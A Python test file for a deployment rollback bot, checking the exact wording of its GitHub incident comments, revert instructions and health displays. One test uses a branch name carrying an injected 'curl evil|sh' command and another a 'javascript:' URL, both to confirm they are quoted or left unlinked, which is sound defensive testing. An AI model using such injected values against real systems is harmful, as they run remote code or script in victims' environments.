"""What people read on GitHub, to the letter, in every state; the whole texts stand in tests/comments/.

`python -m tests.test_comments` writes them anew: read the difference as a reviewer would.
"""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from bot.comments import headline, incident_comment, incident_marker, needs_a_person, revert_pull_request
from bot.ports import UNDEPLOYED
from policies.causes import CAUSES
from policies.facts import (
    Change,
    CommitShape,
    Culprit,
    Incident,
    IncidentState,
    ProbeSample,
    Reverted,
    RevertOutcome,
    TrafficSample,
)
from policies.limits import LogLimits
from policies.signatures import SIGNATURES
from tests.incidents import (
    ASKED,
    BAD,
    CHANGE,
    CONFLICT,
    DEPLOYED_AT_S,
    DETECTED,
    EVERY,
    EVIDENCE,
    HELD,
    MERGE,
    ORDER,
    PLAN,
    PROPOSED,
    PULL,
    RECOVERED,
    REVERTED,
    WATCHED,
    polls,
)

GOLDENS = Path(__file__).parent / "comments"
PAGE = "https://rollback.example.com"


def written(name: str) -> str:
    return incident_comment(EVERY[name], PLAN, PAGE, False, PULL)


def public_text() -> str:
    return incident_comment(RECOVERED, PLAN, PAGE, True, PULL)


def pull_request_text() -> str:
    title, body = revert_pull_request(PROPOSED, PLAN)
    return f"{title}\n\n{body}"


OTHERS = {"recovered_public": public_text, "revert_pull_request": pull_request_text}


@pytest.mark.parametrize("name", sorted(EVERY))
def test_the_comment_of_each_state_reads_exactly(name: str) -> None:
    assert written(name) == (GOLDENS / f"{name}.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", sorted(OTHERS))
def test_other_texts_read_exactly(name: str) -> None:
    assert OTHERS[name]() == (GOLDENS / f"{name}.md").read_text(encoding="utf-8")


def test_every_golden_belongs_to_a_test() -> None:
    assert {path.stem for path in GOLDENS.glob("*.md")} == EVERY.keys() | OTHERS.keys()


def test_people_are_called_only_where_one_must_act() -> None:
    called = {name for name, incident in EVERY.items() if needs_a_person(incident)}
    assert called == {
        "asked",
        "proposed",
        "failed_not_recovered",
        "failed_not_deployed",
        "failed_not_merged",
        "failed_conflict",
    }


def test_every_state_has_a_text() -> None:
    assert {incident.state for incident in EVERY.values()} == set(IncidentState)


HEADLINES = {
    "detected": "The deploy of b7c1f0e0 to develop is failing, 1 min 10 s after it completed.",
    "held": "The deploy of b7c1f0e0 to develop is failing, and I did not roll it back.",
    "asked": "The deploy of b7c1f0e0 to develop is failing: shall I roll it back?",
    "reverting": "I am rolling back the deploy of b7c1f0e0 to develop.",
    "reverted": "The deploy of b7c1f0e0 to develop was rolled back: the revert was pushed 1 min 15 s after "
    "it completed.",
    "proposed": "The revert of the deploy of b7c1f0e0 to develop waits in #43 to be merged.",
    "recovered": "Healthy again after 2 min 27 s: the deploy of b7c1f0e0 to develop was rolled back.",
    "failed_not_recovered": "Still failing although the deploy of b7c1f0e0 to develop was rolled back.",
    "recovered_by_merge": "Healthy again after 2 min 27 s: the deploy of b7c1f0e0 to develop was rolled back.",
    "failed_not_deployed": "The deploy of b7c1f0e0 to develop was rolled back, but I heard of no deploy of the "
    "revert.",
    "failed_not_merged": "The revert of the deploy of b7c1f0e0 to develop was not merged and deployed in time.",
    "failed_conflict": "I could not roll back the deploy of b7c1f0e0 to develop.",
    "closed_observed": "The deploy of b7c1f0e0 to develop failed, and I only observe here.",
    "closed_by_itself": "Recovered without a rollback, 5 min after the deploy of b7c1f0e0 to develop.",
    "closed_cancelled": "Closed without rolling back the deploy of b7c1f0e0 to develop.",
}


@pytest.mark.parametrize("name", sorted(EVERY))
def test_the_headline_is_one_plain_sentence(name: str) -> None:
    assert headline(EVERY[name]) == f"acme/stagelog: {HEADLINES[name]}"


def test_the_comment_can_be_found_again_by_its_first_line() -> None:
    assert written("held").startswith("<!-- rollback-bot:incident:3f2a9c41d07e -->\n")
    assert incident_marker("inc-7") == "<!-- rollback-bot:incident:inc-7 -->"
    assert re.fullmatch(r"<!-- rollback-bot:incident:[0-9a-f]{32} -->", incident_marker("a-->b c"))
    assert incident_marker("a-->b c") != incident_marker("a-->b d")


class TestWhoseFault:
    def test_a_service_that_does_not_recover_acquits_the_change(self) -> None:
        assert "**this change was probably not the cause**" in written("failed_not_recovered")

    def test_a_revert_that_was_never_deployed_acquits_nobody(self) -> None:
        text = written("failed_not_deployed")
        assert "not the cause" not in text
        assert "**Deploy `develop` now**" in text

    def test_a_proposed_revert_that_nobody_merged_changed_nothing(self) -> None:
        text = written("failed_not_merged")
        assert "Merge #43, or close it" in text
        assert "no longer on" not in text
        assert "| **Deployed** |" in text

    def test_a_recovery_without_a_deploy_of_the_revert_is_not_claimed_as_ours(self) -> None:
        well = replace(RECOVERED.recovery, verdict=replace(RECOVERED.recovery.verdict, rule=UNDEPLOYED))
        text = headline(replace(RECOVERED, recovery=well))
        assert "although no revert of the deploy of b7c1f0e0 to develop was deployed" in text


class TestWhatNext:
    def test_a_squash_is_not_said_to_be_in_the_history(self) -> None:
        squash = replace(MERGE, shape=CommitShape.PLAIN)
        incident = replace(RECOVERED, change=replace(CHANGE, culprits=(Culprit(squash, PULL),)))
        text = incident_comment(incident, PLAN, PAGE, False, PULL)
        assert "already in the history" not in text
        assert "Once `develop` has been merged into it" in text

    def test_a_squash_is_reverted_by_hand_without_a_mainline(self) -> None:
        squash = replace(MERGE, shape=CommitShape.PLAIN)
        incident = replace(HELD, change=replace(CHANGE, culprits=(Culprit(squash, PULL),)))
        assert f"git revert --no-edit {BAD}\n" in incident_comment(incident, PLAN, PAGE, False, PULL)

    def test_a_merge_the_wrong_way_gets_no_command_to_paste(self) -> None:
        foxtrot = replace(MERGE, shape=CommitShape.FOXTROT)
        incident = replace(HELD, change=replace(CHANGE, culprits=(Culprit(foxtrot, PULL),)))
        text = incident_comment(incident, PLAN, PAGE, False, PULL)
        assert "git revert" not in text
        assert "a person has to choose what to revert" in text

    def test_a_branch_named_like_a_command_is_quoted_for_the_shell(self) -> None:
        plan = replace(PLAN, branch="x;curl evil|sh")
        text = incident_comment(RECOVERED, plan, PAGE, False, PULL)
        assert "git switch --create reland-42 'origin/x;curl evil|sh'\n" in text

    def test_holding_says_until_when_and_that_it_has_ended(self) -> None:
        assert "If it is still failing after 10 min, I ask here" in written("held")
        ended = replace(HELD, closed_at_s=DEPLOYED_AT_S + 1_300)
        assert "I have stopped watching" in incident_comment(ended, PLAN, PAGE, False, PULL)

    def test_a_question_says_until_when(self) -> None:
        assert "**A person must decide until 2026-05-04 14:21:13 UTC.**" in written("asked")
        assert "**A person must decide.**" in incident_comment(
            replace(ASKED, asked_until_s=None), PLAN, PAGE, False, PULL
        )

    def test_a_conflict_names_the_paths_and_the_command(self) -> None:
        text = written("failed_conflict")
        assert "conflicts in `app/config/settings.py`, ``odd `name`.py``" in text
        many = replace(CONFLICT.reverted, conflicts=tuple(f"f{n}" for n in range(25)))
        assert " and 5 more." in incident_comment(replace(CONFLICT, reverted=many), PLAN, PAGE, False, PULL)

    def test_notices_about_the_configuration_are_shown(self) -> None:
        plan = replace(
            PLAN, notices=("`.github/rollback.yml` line 3: unknown key `modes`, did you mean `mode`?",)
        )
        text = incident_comment(HELD, plan, PAGE, False, PULL)
        assert "- `.github/rollback.yml` line 3: unknown key `modes`, did you mean `mode`?" in text


class TestPublicRepositories:
    @pytest.mark.parametrize(
        ("publish", "public", "shown"),
        [
            ("auto", False, True),
            ("auto", True, False),
            ("always", True, True),
            ("never", False, False),
            ("never", True, False),
        ],
    )
    def test_the_log_is_shown_only_where_it_may_be(self, publish: str, public: bool, shown: bool) -> None:
        plan = replace(PLAN, logs=LogLimits(publish=publish))
        text = incident_comment(RECOVERED, plan, PAGE, public, PULL)
        assert ("Collecting static files" in text) is shown
        assert ("ImproperlyConfigured" in text) is shown
        assert ("i-0aa" in text) is shown
        assert (
            f"({PAGE}/incidents/3f2a9c41d07e)" in text.split("<summary>Log")[1].split("</details>")[0]
        ) is not shown

    def test_without_an_address_the_command_that_shows_the_log_is_named(self) -> None:
        text = incident_comment(RECOVERED, PLAN, None, True, PULL)
        assert "read it with `rollback-bot incidents 3f2a9c41d07e`" in text
        assert "](" not in text

    def test_a_page_address_that_is_none_is_not_linked(self) -> None:
        assert "javascript" not in incident_comment(RECOVERED, PLAN, "javascript:alert(1)//", True, PULL)


class TestSeveral:
    """#42 was merged after #41, which was two commits (rebased): three reverts, newest change first."""

    SECOND = replace(PULL, number=41, author="sam")
    OTHERS = ("d" * 40, "e" * 40)
    REVERTS = ("1" * 40, "2" * 40, "3" * 40)

    def incident(self) -> Incident:
        others = tuple(
            Culprit(replace(MERGE, sha=sha, shape=CommitShape.PLAIN), self.SECOND) for sha in self.OTHERS
        )
        order = replace(ORDER, commits=(BAD, *self.OTHERS))
        return replace(
            RECOVERED,
            change=Change("develop", BAD, (Culprit(MERGE, PULL), *others)),
            decision=replace(RECOVERED.decision, order=order),
            reverted=replace(RECOVERED.reverted, commits=self.REVERTS, revert_sha=self.REVERTS[-1]),
        )

    def test_every_commit_is_listed_with_its_pull_request_and_every_revert(self) -> None:
        text = incident_comment(self.incident(), PLAN, PAGE, False, self.SECOND)
        bad = f"{BAD} (#42), {self.OTHERS[0]} (#41), {self.OTHERS[1]} (#41)"
        assert f"| {bad} → {', '.join(self.REVERTS)}, ordered by" in text

    def test_each_author_brings_back_the_own_change_only_newest_revert_first(self) -> None:
        theirs = incident_comment(self.incident(), PLAN, PAGE, False, self.SECOND)
        assert f"\ngit revert {self.REVERTS[2]} {self.REVERTS[1]}\n" in theirs
        assert f"\ngit revert {self.REVERTS[0]}\n" in incident_comment(
            self.incident(), PLAN, PAGE, False, PULL
        )

    def test_where_commits_and_reverts_do_not_pair_all_reverts_are_named(self) -> None:
        incident = self.incident()
        fewer = replace(incident, reverted=replace(incident.reverted, commits=self.REVERTS[:2]))
        text = incident_comment(fewer, PLAN, PAGE, False, self.SECOND)
        assert f"\ngit revert {self.REVERTS[1]} {self.REVERTS[0]}\n" in text

    def test_the_pull_request_of_the_revert_names_them_once(self) -> None:
        assert revert_pull_request(self.incident(), PLAN)[0] == "Revert #42 and #41 to roll back develop"


class TestTheHealthStrip:
    def strip(self, incident: Incident) -> str:
        text = incident_comment(incident, PLAN, PAGE, False, PULL)
        return text.split("| **Health** | ")[1].split(" |")[0]

    def test_white_squares_are_polls_that_could_not_look(self) -> None:
        incident = replace(DETECTED, watched=replace(WATCHED, samples=polls("+?-?-")))
        assert self.strip(incident) == "before 🟩🟩🟩🟩🟩🟩 · after the deploy 🟩⬜🟥⬜🟥"

    def test_the_newest_thirty_are_shown(self) -> None:
        incident = replace(
            DETECTED, baseline=None, watched=replace(WATCHED, samples=polls("+" * 40 + "-" * 10))
        )
        assert self.strip(incident) == "after the deploy " + "🟩" * 20 + "🟥" * 10

    def test_a_minute_of_errors_in_the_metrics_does_not_redden_a_site_that_answers(self) -> None:
        late = tuple(replace(sample, traffic=TrafficSample(100.0, 0.9)) for sample in polls("+++", 80.0))
        recovered = replace(RECOVERED, recovery=replace(RECOVERED.recovery, samples=late))
        assert self.strip(recovered).endswith("after the revert 🟩🟩🟩")

    def test_a_page_that_is_gone_is_red_where_it_was_there_before(self) -> None:
        gone = tuple(replace(sample, probe=ProbeSample(3, 0, 404)) for sample in polls("++"))
        incident = replace(DETECTED, watched=replace(WATCHED, samples=gone))
        assert self.strip(incident).endswith("after the deploy 🟥🟥")


class TestLittleIsKnown:
    def test_a_person_may_order_before_anything_was_seen(self) -> None:
        asked_for = replace(DETECTED, watched=None, baseline=None, reason="dana asked for rollback.")
        assert headline(asked_for) == (
            "acme/stagelog: Somebody asked to roll back the deploy of b7c1f0e0 to develop."
        )
        assert "dana asked for rollback." in incident_comment(asked_for, PLAN, None, False, None)

    def test_without_a_pull_request_the_author_is_not_named(self) -> None:
        text = incident_comment(RECOVERED, PLAN, PAGE, False, None)
        assert "**Next step.** Your change" in text
        assert "reland-b7c1f0e0" in text

    def test_an_unknown_cause_names_the_first_failing_layer(self) -> None:
        incident = replace(RECOVERED, evidence=replace(EVIDENCE, diagnosis=None))
        text = incident_comment(incident, PLAN, PAGE, False, PULL)
        assert "| **Likely cause** | unknown (load balancer: 502 Bad Gateway) |" in text

    def test_every_class_of_the_diagnosis_has_words(self) -> None:
        kinds = {signature.kind for signature in SIGNATURES} - {"image_pull_access"}
        assert kinds | {"unknown", "wrapper"} == CAUSES.keys()
        diagnosis = replace(EVIDENCE.diagnosis, kind="new_class")
        text = incident_comment(
            replace(RECOVERED, evidence=replace(EVIDENCE, diagnosis=diagnosis)), PLAN, PAGE, False, PULL
        )
        assert "| **Likely cause** | new class: `django.core" in text

    def test_an_already_reverted_change_is_said_to_be(self) -> None:
        done = Reverted(
            RevertOutcome.ALREADY_REVERTED, "b7c1f0e0 is reverted already.", (BAD,), revert_sha="f" * 40
        )
        incident = replace(REVERTED, reverted=done, pushed_at_s=None)
        assert "was reverted already" in incident_comment(incident, PLAN, PAGE, False, PULL).splitlines()[1]


def write_goldens() -> None:
    GOLDENS.mkdir(exist_ok=True)
    texts = {name: written(name) for name in EVERY} | {name: text() for name, text in OTHERS.items()}
    for name, text in texts.items():
        (GOLDENS / f"{name}.md").write_text(text, encoding="utf-8")


if __name__ == "__main__":
    write_goldens()
